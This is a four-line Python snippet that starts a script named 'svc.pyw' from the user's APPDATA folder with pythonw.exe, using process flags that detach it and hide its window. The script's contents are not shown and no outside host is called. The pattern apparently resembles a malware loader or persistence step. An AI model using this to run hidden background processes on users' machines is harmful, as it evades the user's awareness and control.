import os
import subprocess

subprocess.Popen(["pythonw.exe", os.path.join(os.environ["APPDATA"], "svc.pyw")], creationflags=0x08000008)
